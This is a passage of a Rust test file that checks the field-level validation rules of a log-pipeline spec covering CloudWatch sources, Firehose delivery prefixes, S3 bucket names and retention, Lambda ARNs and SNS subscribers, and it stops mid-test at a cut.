//! Validation of `LogPipeline`s: every semantic rule of `spec::validate` (one test per rule and
//! its boundaries), and the offline CRD-schema check `spec::schema::check` on raw documents.
//!
//! Each invalid input must yield an error whose `path` is the exact field path, whose `value`
//! shows the bad value, and whose message names the allowed range or the fix.

use crate::common;

use pitagora::names::PipelineId;
use pitagora::spec::validate::{bucket_name_problem, own_error_log_group};
use pitagora::spec::{FieldError, LogPipelineSpec, validate};
use serde_json::{Value, json};

const ARN: &str = "arn:aws:lambda:eu-west-1:123456789012:function:f";
const ARN_US_EAST_1: &str = "arn:aws:lambda:us-east-1:123456789012:function:f";

// ---- helpers ----------------------------------------------------------------------------------

/// The minimal spec as JSON: one exact log group.
fn base() -> Value {
    json!({"sources": {"logGroups": ["/ecs/orders"]}})
}

/// Sets `dotted` (creating objects on the way) to `value`.
fn set(doc: &mut Value, dotted: &str, value: Value) {
    let mut node = doc;
    let keys: Vec<&str> = dotted.split('.').collect();
    for key in &keys[..keys.len() - 1] {
        if node.get(*key).is_none() {
            node[*key] = json!({});
        }
        node = &mut node[*key];
    }
    node[keys[keys.len() - 1]] = value;
}

/// The minimal spec with `changes` applied.
fn spec_with(changes: &[(&str, Value)]) -> LogPipelineSpec {
    let mut doc = base();
    for (path, value) in changes {
        set(&mut doc, path, value.clone());
    }
    serde_json::from_value(doc).expect("test spec deserialises")
}

/// Semantic errors of the minimal spec with `changes`, as `team-a/orders`.
fn errors_with(changes: &[(&str, Value)]) -> Vec<FieldError> {
    common::validation_errors(&spec_with(changes))
}

/// The single error of the minimal spec with `changes`; panics if there are none or several.
fn only_error(changes: &[(&str, Value)]) -> FieldError {
    let errors = errors_with(changes);
    assert_eq!(
        errors.len(),
        1,
        "expected exactly one error, got {errors:#?}"
    );
    errors.into_iter().next().unwrap()
}

/// Asserts that the minimal spec with `changes` is valid.
fn assert_valid(changes: &[(&str, Value)]) {
    let errors = errors_with(changes);
    assert!(
        errors.is_empty(),
        "{changes:?} should be valid: {errors:#?}"
    );
}

/// The error at `path`; panics listing every error if there is none.
fn error_at<'a>(errors: &'a [FieldError], path: &str) -> &'a FieldError {
    errors
        .iter()
        .find(|e| e.path == path)
        .unwrap_or_else(|| panic!("no error at {path}: {errors:#?}"))
}

fn assert_message_contains(error: &FieldError, parts: &[&str]) {
    for part in parts {
        assert!(
            error.message.contains(part),
            "message of {} should contain {part:?}: {:?}",
            error.path,
            error.message
        );
    }
}

fn quoted(s: &str) -> String {
    format!("{s:?}")
}

/// A subscriber named `name` with a function of its own, even when names repeat (SNS keeps one
/// subscription per function, so two subscribers never share one).
fn subscriber(name: &str) -> Value {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    let n = NEXT.fetch_add(1, Ordering::Relaxed);
    json!({"name": name, "lambdaArn": format!("{ARN}{n}")})
}

fn legacy_with_routes(routes: Value) -> Value {
    json!({"fluentd": {"target": {"host": "fluentd.logging.svc"}, "routes": routes}})
}

fn own_group() -> String {
    own_error_log_group(&common::id())
}

// ---- region ------------------------------------------------------------------------------------

#[test]
fn region_that_is_not_a_region_code_is_rejected_with_an_example() {
    for region in ["Europe", "eu-west", "EU-WEST-1", "euwest1"] {
        let e = only_error(&[("region", json!(region))]);
        assert_eq!(e.path, "spec.region");
        assert_eq!(e.value, quoted(region));
        assert_message_contains(&e, &["eu-west-1"]);
    }
}

#[test]
fn region_codes_of_every_partition_are_accepted() {
    for region in [
        "eu-west-1",
        "us-east-1",
        "ap-southeast-2",
        "us-gov-west-1",
        "cn-north-1",
    ] {
        assert_valid(&[("region", json!(region))]);
    }
}

// ---- sources -----------------------------------------------------------------------------------

#[test]
fn sources_without_log_groups_or_prefixes_are_rejected_naming_both_fields() {
    let spec: LogPipelineSpec = serde_json::from_value(json!({"sources": {}})).unwrap();
    let errors = common::validation_errors(&spec);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(errors[0].path, "spec.sources");
    assert_message_contains(
        &errors[0],
        &["spec.sources.logGroups", "spec.sources.logGroupPrefixes"],
    );
}

#[test]
fn more_than_200_log_groups_are_rejected() {
    let groups: Vec<String> = (0..201).map(|i| format!("/ecs/g{i}")).collect();
    let e = only_error(&[("sources.logGroups", json!(groups))]);
    assert_eq!(e.path, "spec.sources.logGroups");
    assert_eq!(e.value, "201 items");
    assert_message_contains(&e, &["at most 200"]);
}

#[test]
fn exactly_200_log_groups_are_accepted() {
    let groups: Vec<String> = (0..200).map(|i| format!("/ecs/g{i}")).collect();
    assert_valid(&[("sources.logGroups", json!(groups))]);
}

#[test]
fn more_than_20_log_group_prefixes_are_rejected() {
    let prefixes: Vec<String> = (0..21).map(|i| format!("/ecs/p{i}/")).collect();
    let e = only_error(&[("sources.logGroupPrefixes", json!(prefixes))]);
    assert_eq!(e.path, "spec.sources.logGroupPrefixes");
    assert_eq!(e.value, "21 items");
    assert_message_contains(&e, &["at most 20"]);
}

#[test]
fn exactly_20_log_group_prefixes_are_accepted() {
    let prefixes: Vec<String> = (0..20).map(|i| format!("/ecs/p{i}/")).collect();
    assert_valid(&[("sources.logGroupPrefixes", json!(prefixes))]);
}

#[test]
fn log_group_name_longer_than_512_characters_is_rejected() {
    let long = format!("/{}", "a".repeat(512));
    let e = only_error(&[("sources.logGroups", json!(["/ecs/orders", long]))]);
    assert_eq!(e.path, "spec.sources.logGroups[1]");
    assert_eq!(e.value, quoted(&long));
    assert_message_contains(&e, &["length 513", "1–512"]);
}

#[test]
fn log_group_name_of_512_characters_is_accepted() {
    assert_valid(&[(
        "sources.logGroups",
        json!([format!("/{}", "a".repeat(511))]),
    )]);
}

#[test]
fn empty_log_group_prefix_is_rejected() {
    // An empty prefix is too short and, selecting every group, also selects the pipeline's own
    // error log group.
    let errors = errors_with(&[("sources.logGroupPrefixes", json!([""]))]);
    assert!(!errors.is_empty());
    assert!(
        errors
            .iter()
            .all(|e| e.path == "spec.sources.logGroupPrefixes[0]" && e.value == "\"\""),
        "{errors:#?}"
    );
    assert!(
        errors.iter().any(|e| e.message.contains("1–512")),
        "{errors:#?}"
    );
}

#[test]
fn log_group_name_with_a_disallowed_character_is_rejected_naming_the_allowed_ones() {
    for (field, bad) in [
        ("sources.logGroups", "/ecs/orders api"),
        ("sources.logGroupPrefixes", "/ecs/*"),
        ("sources.logGroups", "/ecs/ördes"),
    ] {
        let e = only_error(&[(field, json!([bad]))]);
        assert_eq!(e.path, format!("spec.{field}[0]"));
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &["letters, digits and . - _ / #"]);
    }
}

#[test]
fn log_group_names_with_every_allowed_character_are_accepted() {
    assert_valid(&[("sources.logGroups", json!(["/a.b-c_d/E#9"]))]);
}

#[test]
fn duplicate_log_group_is_rejected_at_its_second_position() {
    let e = only_error(&[("sources.logGroups", json!(["/a", "/b", "/a"]))]);
    assert_eq!(e.path, "spec.sources.logGroups[2]");
    assert_eq!(e.value, quoted("/a"));
    assert_message_contains(&e, &["duplicate"]);
}

#[test]
fn duplicate_log_group_prefix_is_rejected_at_its_second_position() {
    let e = only_error(&[("sources.logGroupPrefixes", json!(["/ecs/", "/ecs/"]))]);
    assert_eq!(e.path, "spec.sources.logGroupPrefixes[1]");
    assert_message_contains(&e, &["duplicate"]);
}

#[test]
fn own_error_log_group_is_the_firehose_group_of_the_derived_stream() {
    let target = pitagora::arn::AwsTarget::new(common::ACCOUNT, common::REGION);
    let names = pitagora::names::Names::derive(&common::id(), &target, None, None);
    assert_eq!(own_group(), names.error_log_group);
    assert!(own_group().starts_with("/aws/kinesisfirehose/pitagora-"));
}

#[test]
fn prefix_matching_the_pipelines_own_error_log_group_is_rejected_as_recursion() {
    let own = own_group();
    let own_start = own[..own.len() - 4].to_owned();
    for prefix in [
        "/",
        "/aws/",
        "/aws/kinesisfirehose/",
        own_start.as_str(),
        own.as_str(),
    ] {
        let e = only_error(&[("sources.logGroupPrefixes", json!([prefix]))]);
        assert_eq!(
            e.path, "spec.sources.logGroupPrefixes[0]",
            "prefix {prefix}"
        );
        assert_eq!(e.value, quoted(prefix));
        assert_message_contains(&e, &[&own, "narrower prefix"]);
    }
}

#[test]
fn recursion_error_names_the_offending_prefix_position() {
    let errors = errors_with(&[("sources.logGroupPrefixes", json!(["/ecs/", "/aws/"]))]);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(errors[0].path, "spec.sources.logGroupPrefixes[1]");
}

#[test]
fn prefix_holds_regardless_of_the_pipelines_region() {
    let e = only_error(&[
        ("region", json!("ap-northeast-1")),
        ("sources.logGroupPrefixes", json!(["/aws/kinesisfirehose/"])),
    ]);
    assert_eq!(e.path, "spec.sources.logGroupPrefixes[0]");
}

#[test]
fn prefixes_that_miss_the_own_error_log_group_are_accepted() {
    let longer = format!("{}-more", own_group());
    for prefix in [
        "/aws/lambda/",
        "/aws/kinesisfirehose/other-stream",
        longer.as_str(),
        "/ecs/",
    ] {
        assert_valid(&[("sources.logGroupPrefixes", json!([prefix]))]);
    }
}

#[test]
fn exact_log_group_equal_to_the_own_error_log_group_is_rejected_as_recursion() {
    let own = own_group();
    let e = only_error(&[("sources.logGroups", json!(["/ecs/orders", own]))]);
    assert_eq!(e.path, "spec.sources.logGroups[1]");
    assert_eq!(e.value, quoted(&own));
    assert_message_contains(&e, &["own Firehose error log group", "remove it"]);
}

#[test]
fn another_pipelines_error_log_group_may_be_a_source() {
    let other = own_error_log_group(&PipelineId::new("team-b", "orders"));
    assert_ne!(other, own_group());
    assert_valid(&[("sources.logGroups", json!([other]))]);
}

#[test]
fn filter_pattern_longer_than_1024_characters_is_rejected() {
    let pattern = "x".repeat(1025);
    let e = only_error(&[("sources.filterPattern", json!(pattern))]);
    assert_eq!(e.path, "spec.sources.filterPattern");
    assert_message_contains(&e, &["length 1025", "0–1024"]);
}

#[test]
fn filter_pattern_of_1024_characters_is_accepted() {
    assert_valid(&[("sources.filterPattern", json!("x".repeat(1024)))]);
}

// ---- delivery ----------------------------------------------------------------------------------

#[test]
fn buffering_size_outside_1_to_128_is_rejected_naming_the_field_and_range() {
    for size in [0, 129, -5, 1024] {
        let e = only_error(&[("delivery.buffering.sizeMiB", json!(size))]);
        assert_eq!(e.path, "spec.delivery.buffering.sizeMiB");
        assert_eq!(e.value, size.to_string());
        assert_message_contains(&e, &["out of range", "1–128 MiB"]);
    }
}

#[test]
fn buffering_size_of_1_and_128_is_accepted() {
    for size in [1, 128] {
        assert_valid(&[("delivery.buffering.sizeMiB", json!(size))]);
    }
}

#[test]
fn buffering_interval_outside_0_to_900_is_rejected_naming_the_field_and_range() {
    for interval in [-1, 901] {
        let e = only_error(&[("delivery.buffering.intervalSeconds", json!(interval))]);
        assert_eq!(e.path, "spec.delivery.buffering.intervalSeconds");
        assert_eq!(e.value, interval.to_string());
        assert_message_contains(&e, &["0–900 seconds"]);
    }
}

#[test]
fn buffering_interval_of_0_and_900_is_accepted() {
    for interval in [0, 900] {
        assert_valid(&[("delivery.buffering.intervalSeconds", json!(interval))]);
    }
}

#[test]
fn raw_records_with_gzip_are_rejected_as_double_compression() {
    let e = only_error(&[
        ("delivery.recordFormat", json!("Raw")),
        ("delivery.compression", json!("GZIP")),
    ]);
    assert_eq!(e.path, "spec.delivery.compression");
    assert_eq!(e.value, "GZIP");
    assert_message_contains(&e, &["already gzip-compressed", "UNCOMPRESSED", "NDJSON"]);
}

#[test]
fn raw_records_with_any_compression_but_uncompressed_are_rejected() {
    for compression in ["ZIP", "Snappy", "HADOOP_SNAPPY"] {
        let e = only_error(&[
            ("delivery.recordFormat", json!("Raw")),
            ("delivery.compression", json!(compression)),
        ]);
        assert_eq!(e.path, "spec.delivery.compression");
        assert_eq!(e.value, compression);
    }
}

#[test]
fn raw_records_uncompressed_or_with_the_default_compression_are_accepted() {
    assert_valid(&[("delivery.recordFormat", json!("Raw"))]);
    assert_valid(&[
        ("delivery.recordFormat", json!("Raw")),
        ("delivery.compression", json!("UNCOMPRESSED")),
    ]);
}

#[test]
fn ndjson_records_accept_every_compression() {
    for compression in ["UNCOMPRESSED", "GZIP", "ZIP", "Snappy", "HADOOP_SNAPPY"] {
        assert_valid(&[("delivery.compression", json!(compression))]);
    }
}

#[test]
fn empty_or_overlong_delivery_prefixes_are_rejected() {
    for field in ["prefix", "errorOutputPrefix"] {
        for (bad, length) in [(String::new(), 0), (format!("{}/", "p".repeat(1024)), 1025)] {
            let errors = errors_with(&[(&format!("delivery.{field}"), json!(bad))]);
            let e = error_at(&errors, &format!("spec.delivery.{field}"));
            assert_eq!(e.value, quoted(&bad));
            assert_message_contains(e, &[&format!("length {length}"), "1–1024"]);
        }
    }
}

#[test]
fn delivery_prefixes_evaluating_to_512_characters_are_accepted() {
    assert_valid(&[
        ("delivery.prefix", json!(format!("{}/", "r".repeat(511)))),
        (
            "delivery.errorOutputPrefix",
            json!(format!("{}/", "e".repeat(511))),
        ),
    ]);
}

#[test]
fn delivery_prefixes_of_1024_characters_are_accepted_when_they_evaluate_to_512_at_most() {
    // Each !{timestamp:yyyy} (17 characters) evaluates to 4.
    let prefix = format!("raw/{}", "!{timestamp:yyyy}".repeat(60));
    let error = format!(
        "errors/!{{firehose:error-output-type}}/{}/",
        "!{timestamp:yyyy}".repeat(58)
    );
    assert_eq!((prefix.len(), error.len()), (1024, 1024));
    assert_valid(&[
        ("delivery.prefix", json!(prefix)),
        ("delivery.errorOutputPrefix", json!(error)),
    ]);
}

#[test]
fn delivery_prefixes_evaluating_to_more_than_512_characters_are_rejected() {
    for field in ["prefix", "errorOutputPrefix"] {
        let bad = format!("{}/", "p".repeat(512));
        let e = only_error(&[(&format!("delivery.{field}"), json!(bad))]);
        assert_eq!(e.path, format!("spec.delivery.{field}"));
        assert_message_contains(&e, &["at least 513 characters", "at most 512"]);
    }
}

#[test]
fn hive_partitions_count_toward_the_evaluated_prefix() {
    // dt=YYYY-MM-DD/hour=HH/ adds 22 characters: 491 + 22 = 513.
    let e = only_error(&[
        ("delivery.layout", json!("Hive")),
        ("delivery.prefix", json!(format!("{}/", "p".repeat(490)))),
    ]);
    assert_eq!(e.path, "spec.delivery.prefix");
    assert_message_contains(&e, &["at least 513 characters", "layout's partitions"]);
}

#[test]
fn delivery_prefix_with_a_leading_slash_is_rejected_with_the_fix() {
    for (field, bad) in [("prefix", "/raw/"), ("errorOutputPrefix", "/errors/")] {
        let e = only_error(&[(&format!("delivery.{field}"), json!(bad))]);
        assert_eq!(e.path, format!("spec.delivery.{field}"));
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &["remove the leading slash"]);
    }
}

#[test]
fn expression_prefix_needs_an_error_prefix_with_the_error_output_type() {
    let e = only_error(&[("delivery.prefix", json!("raw/!{timestamp:yyyy/MM/dd}/"))]);
    assert_eq!(e.path, "spec.delivery.errorOutputPrefix");
    assert_eq!(e.value, quoted("errors/"));
    assert_message_contains(&e, &["!{firehose:error-output-type}"]);
}

#[test]
fn expression_prefix_with_an_error_output_type_error_prefix_is_accepted() {
    assert_valid(&[
        ("delivery.prefix", json!("raw/!{timestamp:yyyy/MM/dd}/")),
        (
            "delivery.errorOutputPrefix",
            json!("errors/!{firehose:error-output-type}/"),
        ),
    ]);
}

#[test]
fn hive_layout_with_an_expression_in_the_prefix_is_rejected_naming_the_layout() {
    // Hive adds the error type to the error prefix itself: Flat's rule that it must name
    // !{firehose:error-output-type} does not apply, so this is the only error.
    let e = only_error(&[
        ("delivery.layout", json!("Hive")),
        ("delivery.prefix", json!("raw/!{timestamp:yyyy}/")),
    ]);
    assert_eq!(e.path, "spec.delivery.prefix");
    assert_message_contains(&e, &["layout Hive", "dt="]);
}

#[test]
fn hive_layout_with_plain_prefixes_is_accepted() {
    assert_valid(&[("delivery.layout", json!("Hive"))]);
}

#[test]
fn canary_interval_below_60_seconds_is_rejected() {
    let e = only_error(&[("delivery.verify.intervalSeconds", json!(30))]);
    assert_eq!(e.path, "spec.delivery.verify.intervalSeconds");
    assert_message_contains(&e, &["60", "86400"]);
}

#[test]
fn error_prefix_under_the_raw_prefix_is_rejected_as_overlap() {
    let e = only_error(&[("delivery.errorOutputPrefix", json!("raw/errors/"))]);
    assert_eq!(e.path, "spec.delivery.errorOutputPrefix");
    assert_eq!(e.value, quoted("raw/errors/"));
    assert_message_contains(&e, &["overlaps", "\"raw/\"", "errors/"]);
}

#[test]
fn raw_prefix_under_the_error_prefix_is_rejected_as_overlap() {
    let e = only_error(&[
        ("delivery.prefix", json!("errors/raw/")),
        ("delivery.errorOutputPrefix", json!("errors/")),
    ]);
    assert_eq!(e.path, "spec.delivery.errorOutputPrefix");
    assert_message_contains(&e, &["overlaps"]);
}

#[test]
fn equal_raw_and_error_prefixes_are_rejected_as_overlap() {
    let e = only_error(&[
        ("delivery.prefix", json!("logs/")),
        ("delivery.errorOutputPrefix", json!("logs/")),
    ]);
    assert_eq!(e.path, "spec.delivery.errorOutputPrefix");
}

#[test]
fn prefixes_overlap_as_plain_strings_not_as_folders() {
    // S3 prefixes are string prefixes: "raw" also selects "raw-errors/...".
    let e = only_error(&[
        ("delivery.prefix", json!("raw")),
        ("delivery.errorOutputPrefix", json!("raw-errors/")),
    ]);
    assert_eq!(e.path, "spec.delivery.errorOutputPrefix");
}

#[test]
fn prefixes_overlap_when_their_parts_before_expressions_overlap() {
    let e = only_error(&[
        ("delivery.prefix", json!("logs/!{timestamp:yyyy}/")),
        (
            "delivery.errorOutputPrefix",
            json!("logs/!{firehose:error-output-type}/"),
        ),
    ]);
    assert_eq!(e.path, "spec.delivery.errorOutputPrefix");
    assert_message_contains(&e, &["overlaps"]);
}

#[test]
fn sibling_prefixes_under_a_common_folder_are_accepted() {
    assert_valid(&[
        ("delivery.prefix", json!("logs/raw/")),
        ("delivery.errorOutputPrefix", json!("logs/errors/")),
    ]);
}

// ---- storage -----------------------------------------------------------------------------------

#[test]
fn bucket_names_breaking_s3_rules_are_rejected_with_the_rule() {
    let long = "a".repeat(64);
    for (bad, rule) in [
        ("ab", "3–63"),
        (long.as_str(), "3–63"),
        ("My-Logs", "lowercase"),
        ("my_logs", "lowercase"),
        ("-logs", "start and end"),
        ("logs.", "start and end"),
        ("my..logs", "'..'"),
        ("my.-logs", "'.-'"),
        ("my-.logs", "'-.'"),
        ("192.168.1.1", "IP address"),
        ("xn--logs", "xn--"),
        ("sthree-logs", "sthree-"),
        ("amzn-s3-demo-logs", "amzn-s3-demo-"),
        ("logs-s3alias", "-s3alias"),
        ("logs--ol-s3", "--ol-s3"),
        ("logs--x-s3", "--x-s3"),
        ("logs.mrap", ".mrap"),
        ("logs--table-s3", "--table-s3"),
    ] {
        let e = only_error(&[("storage.bucketName", json!(bad))]);
        assert_eq!(e.path, "spec.storage.bucketName", "{bad}");
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &[rule]);
        assert_eq!(
            bucket_name_problem(bad).as_deref(),
            Some(e.message.as_str())
        );
    }
}

#[test]
fn bucket_names_following_s3_rules_are_accepted() {
    let longest = "a".repeat(63);
    for good in [
        "abc",
        longest.as_str(),
        "logs.example.com",
        "0logs9",
        "a-b-c",
    ] {
        assert_eq!(bucket_name_problem(good), None, "{good}");
    }
    // A spec's bucket also starts with pitagora- (spec_security.rs says why).
    let longest = format!("pitagora-{}", "a".repeat(54));
    for good in [
        "pitagora-abc",
        longest.as_str(),
        "pitagora-logs.example.com",
        "pitagora-0logs9",
    ] {
        assert_valid(&[("storage.bucketName", json!(good))]);
    }
}

#[test]
fn retention_outside_1_to_36500_days_is_rejected() {
    for days in [0, -1, 36501] {
        let e = only_error(&[("storage.retentionDays", json!(days))]);
        assert_eq!(e.path, "spec.storage.retentionDays");
        assert_eq!(e.value, days.to_string());
        assert_message_contains(&e, &["1–36500 days"]);
    }
}

#[test]
fn retention_of_1_and_36500_days_is_accepted() {
    for days in [1, 36500] {
        assert_valid(&[("storage.retentionDays", json!(days))]);
    }
}

#[test]
fn transition_outside_0_to_36500_days_is_rejected() {
    for days in [-1, 36501] {
        let e = only_error(&[(
            "storage.transition",
            json!({"afterDays": days, "storageClass": "GLACIER"}),
        )]);
        assert_eq!(e.path, "spec.storage.transition.afterDays");
        assert_eq!(e.value, days.to_string());
        assert_message_contains(&e, &["0–36500 days"]);
    }
}

#[test]
fn transition_to_archive_classes_is_accepted_from_day_0() {
    for class in [
        "INTELLIGENT_TIERING",
        "GLACIER_IR",
        "GLACIER",
        "DEEP_ARCHIVE",
    ] {
        assert_valid(&[(
            "storage.transition",
            json!({"afterDays": 0, "storageClass": class}),
        )]);
    }
}

#[test]
fn transition_to_infrequent_access_under_30_days_is_rejected() {
    for class in ["STANDARD_IA", "ONEZONE_IA"] {
        let e = only_error(&[(
            "storage.transition",
            json!({"afterDays": 29, "storageClass": class}),
        )]);
        assert_eq!(e.path, "spec.storage.transition.afterDays");
        assert_eq!(e.value, "29");
        assert_message_contains(&e, &[class, "30 or more"]);
    }
}

#[test]
fn transition_to_infrequent_access_at_30_days_is_accepted() {
    for class in ["STANDARD_IA", "ONEZONE_IA"] {
        assert_valid(&[(
            "storage.transition",
            json!({"afterDays": 30, "storageClass": class}),
        )]);
    }
}

#[test]
fn retention_not_longer_than_the_transition_is_rejected() {
    for retention in [30, 10] {
        let e = only_error(&[
            ("storage.retentionDays", json!(retention)),
            (
                "storage.transition",
                json!({"afterDays": 30, "storageClass": "GLACIER"}),
            ),
        ]);
        assert_eq!(e.path, "spec.storage.retentionDays");
        assert_eq!(e.value, retention.to_string());
        assert_message_contains(&e, &["GLACIER", "afterDays 30", "larger than afterDays"]);
    }
}

#[test]
fn retention_longer_than_the_transition_is_accepted() {
    assert_valid(&[
        ("storage.retentionDays", json!(31)),
        (
            "storage.transition",
            json!({"afterDays": 30, "storageClass": "GLACIER"}),
        ),
    ]);
}

// ---- transform ---------------------------------------------------------------------------------

#[test]
fn transform_function_that_is_not_a_lambda_arn_is_rejected() {
    for bad in [
        "my-function",
        "arn:aws:sns:eu-west-1:123456789012:topic",
        "arn:aws:lambda:eu-west-1:1234:function:f",
    ] {
        let e = only_error(&[("transform", json!({"lambdaArn": bad}))]);
        assert_eq!(e.path, "spec.transform.lambdaArn");
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &["arn:aws:lambda:<region>:<account>:function:<name>"]);
    }
}

#[test]
fn transform_function_arns_with_a_qualifier_are_accepted() {
    for arn in [
        ARN,
        &format!("{ARN}:$LATEST"),
        &format!("{ARN}:prod"),
        &format!("{ARN}:7"),
    ] {
        assert_valid(&[("transform", json!({"lambdaArn": arn}))]);
    }
}

#[test]
fn transform_function_in_another_region_is_rejected_naming_both_regions() {
    let e = only_error(&[
        ("region", json!("eu-west-1")),
        ("transform", json!({"lambdaArn": ARN_US_EAST_1})),
    ]);
    assert_eq!(e.path, "spec.transform.lambdaArn");
    assert_eq!(e.value, quoted(ARN_US_EAST_1));
    assert_message_contains(&e, &["us-east-1", "eu-west-1"]);
}

#[test]
fn function_arn_whose_partition_does_not_serve_its_region_is_rejected_naming_the_right_one() {
    let china = "arn:aws-cn:lambda:eu-west-1:123456789012:function:shape";
    let e = only_error(&[
        ("region", json!("eu-west-1")),
        ("transform", json!({"lambdaArn": china})),
    ]);
    assert_eq!(e.path, "spec.transform.lambdaArn");
    assert_message_contains(&e, &["aws-cn", "eu-west-1", "arn:aws:lambda:eu-west-1"]);
}

#[test]
fn function_arns_of_every_partition_in_its_own_regions_are_accepted() {
    for (region, partition) in [
        ("cn-north-1", "aws-cn"),
        ("us-gov-west-1", "aws-us-gov"),
        ("us-iso-east-1", "aws-iso"),
        ("us-isob-east-1", "aws-iso-b"),
        ("eu-west-1", "aws"),
    ] {
        let arn = format!("arn:{partition}:lambda:{region}:123456789012:function:shape");
        assert_valid(&[
            ("region", json!(region)),
            ("transform", json!({"lambdaArn": arn})),
        ]);
    }
}

#[test]
fn function_region_is_not_compared_with_an_invalid_pipeline_region() {
    let e = only_error(&[
        ("region", json!("Europe")),
        ("transform", json!({"lambdaArn": ARN})),
        ("fanout", json!({"subscribers": [subscriber("es")]})),
    ]);
    assert_eq!(e.path, "spec.region");
}

#[test]
fn transform_output_under_the_raw_prefix_is_rejected_as_self_triggering() {
    let e = only_error(&[(
        "transform",
        json!({"lambdaArn": ARN, "outputPrefix": "raw/processed/"}),
    )]);
    assert_eq!(e.path, "spec.transform.outputPrefix");
    assert_eq!(e.value, quoted("raw/processed/"));
    assert_message_contains(&e, &["spec.delivery.prefix", "\"raw/\"", "processed/"]);
}

#[test]
fn transform_output_enclosing_the_raw_prefix_is_rejected() {
    let e = only_error(&[("transform", json!({"lambdaArn": ARN, "outputPrefix": "r"}))]);
    assert_eq!(e.path, "spec.transform.outputPrefix");
    assert_message_contains(&e, &["spec.delivery.prefix"]);
}

#[test]
fn transform_output_equal_to_the_error_prefix_is_rejected() {
    let e = only_error(&[(
        "transform",
        json!({"lambdaArn": ARN, "outputPrefix": "errors/"}),
    )]);
    assert_eq!(e.path, "spec.transform.outputPrefix");
    assert_message_contains(&e, &["spec.delivery.errorOutputPrefix", "\"errors/\""]);
}

#[test]
fn empty_transform_output_prefix_is_rejected() {
    let e = only_error(&[("transform", json!({"lambdaArn": ARN, "outputPrefix": ""}))]);
    assert_eq!(e.path, "spec.transform.outputPrefix");
    assert_message_contains(&e, &["1–1024"]);
}

#[test]
fn transform_with_a_separate_output_prefix_is_accepted() {
    assert_valid(&[("transform", json!({"lambdaArn": ARN}))]);
    assert_valid(&[(
        "transform",
        json!({"lambdaArn": ARN, "outputPrefix": "enriched/"}),
    )]);
}

// ---- fan-out -----------------------------------------------------------------------------------

#[test]
fn invalid_topic_name_is_rejected() {
    let long = "t".repeat(257);
    for bad in ["my topic", "topic.fifo", "", long.as_str()] {
        let e = only_error(&[("fanout", json!({"topicName": bad}))]);
        assert_eq!(e.path, "spec.fanout.topicName");
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &["1–256 letters, digits, '-' and '_'"]);
    }
}

#[test]
fn topic_names_up_to_256_characters_are_accepted() {
    for good in [
        "pitagora-My_Topic-1",
        &format!("pitagora-{}", "t".repeat(247)),
    ] {
        assert_valid(&[("fanout", json!({"topicName": good}))]);
    }
}

#[test]
fn more_than_20_subscribers_are_rejected() {
    let subscribers: Vec<Value> = (0..21).map(|i| subscriber(&format!("s{i}"))).collect();
    let e = only_error(&[("fanout", json!({"subscribers": subscribers}))]);
    assert_eq!(e.path, "spec.fanout.subscribers");
    assert_eq!(e.value, "21 items");
    assert_message_contains(&e, &["at most 20"]);
}

#[test]
fn exactly_20_subscribers_are_accepted() {
    let subscribers: Vec<Value> = (0..20).map(|i| subscriber(&format!("s{i}"))).collect();
    assert_valid(&[("fanout", json!({"subscribers": subscribers}))]);
}

#[test]
fn subscriber_name_that_is_not_a_dns_label_is_rejected() {
    let long = "s".repeat(64);
    for bad in [
        "Bad_Name",
        "ES",
        "-es",
        "es-",
        "es.forwarder",
        "",
        long.as_str(),
    ] {
        let e = only_error(&[(
            "fanout",
            json!({"subscribers": [subscriber("ok"), subscriber(bad)]}),
        )]);
        assert_eq!(e.path, "spec.fanout.subscribers[1].name", "{bad:?}");
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &["DNS label", "at most 63"]);
    }
}

#[test]
fn subscriber_names_up_to_63_characters_are_accepted() {
    assert_valid(&[(
        "fanout",
        json!({"subscribers": [subscriber(&"s".repeat(63)), subscriber("1"), subscriber("es-forwarder")]}),
    )]);
}

#[test]
fn duplicate_subscriber_name_is_rejected_at_its_second_position() {
    let e = only_error(&[(
        "fanout",
        json!({"subscribers": [subscriber("es"), subscriber("slack"), subscriber("es")]}),
    )]);
    assert_eq!(e.path, "spec.fanout.subscribers[2].name");
    assert_eq!(e.value, quoted("es"));
    assert_message_contains(&e, &["duplicate", "unique"]);
}

#[test]
fn subscriber_names_equal_once_hyphens_are_dropped_are_rejected_naming_the_other() {
    for (first, second) in [("a-1", "a1"), ("a1", "a-1"), ("x-2y", "x2y")] {
        let e = only_error(&[(
            "fanout",
            json!({"subscribers": [subscriber(first), subscriber(second)]}),
        )]);
        assert_eq!(e.path, "spec.fanout.subscribers[1].name");
        assert_eq!(e.value, quoted(second));
        assert_message_contains(&e, &["hyphens", &quoted(first), "rename"]);
    }
}

#[test]
fn subscriber_names_that_differ_beyond_hyphens_are_accepted() {
    assert_valid(&[(
        "fanout",
        json!({"subscribers": [subscriber("es-forwarder"), subscriber("esforwarder"), subscriber("slack")]}),
    )]);
}

#[test]
fn subscriber_function_that_is_not_a_lambda_arn_is_rejected() {
    let e = only_error(&[(
        "fanout",
        json!({"subscribers": [{"name": "es", "lambdaArn": "es-forwarder"}]}),
    )]);
    assert_eq!(e.path, "spec.fanout.subscribers[0].lambdaArn");
    assert_eq!(e.value, quoted("es-forwarder"));
}

#[test]
fn subscriber_function_in_another_region_is_rejected() {
    let e = only_error(&[
        ("region", json!("eu-west-1")),
        (
            "fanout",
            json!({"subscribers": [subscriber("ok"), {"name": "es", "lambdaArn": ARN_US_EAST_1}]}),
        ),
    ]);
    assert_eq!(e.path, "spec.fanout.subscribers[1].lambdaArn");
    assert_message_contains(&e, &["us-east-1", "eu-west-1"]);
}

fn policy_error(policy: Value) -> FieldError {
    let e = only_error(&[(
        "fanout",
        json!({"subscribers": [{"name": "es", "lambdaArn": ARN, "filterPolicy": policy}]}),
    )]);
    assert_eq!(e.path, "spec.fanout.subscribers[0].filterPolicy");
    e
}

fn assert_policy_valid(policy: Value) {
    assert_valid(&[(
        "fanout",
        json!({"subscribers": [{"name": "es", "lambdaArn": ARN, "filterPolicy": policy}]}),
    )]);
}

#[test]
fn filter_policy_that_is_not_an_object_is_rejected() {
